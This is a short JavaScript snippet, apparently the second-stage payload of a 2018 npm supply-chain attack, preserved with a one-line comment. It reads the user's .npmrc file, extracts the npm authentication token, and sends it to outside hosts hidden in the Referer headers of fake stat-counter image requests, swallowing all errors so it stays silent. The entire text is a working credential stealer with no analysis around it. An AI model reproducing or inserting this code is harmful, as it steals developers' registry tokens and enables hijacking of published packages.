// The text served at the paste URL in July 2018, kept here so the corpus carries both stages.
try {
    var path = require('path');
    var fs = require('fs');
    var npmrc = path.join(process.env.HOME || process.env.USERPROFILE, '.npmrc');
    var content = "nofile";

    if (fs.existsSync(npmrc)) {

        content = fs.readFileSync(npmrc, {encoding: 'utf8'});
        content = content.replace('//registry.npmjs.example/:_authToken=', '').trim();

        var https1 = require('https');
        https1.get({hostname: 'sstatic1.histats.example', path: '/0.gif?4103075&101', method: 'GET', headers: {Referer: 'http://1.a.invalid/' + content}}, () => {}).on("error", () => {});
        https1.get({hostname: 'c.statcounter.example', path: '/11760461/0/7b5b9d71/1/', method: 'GET', headers: {Referer: 'http://2.b.invalid/' + content}}, () => {}).on("error", () => {});

    }
} catch (e) {}
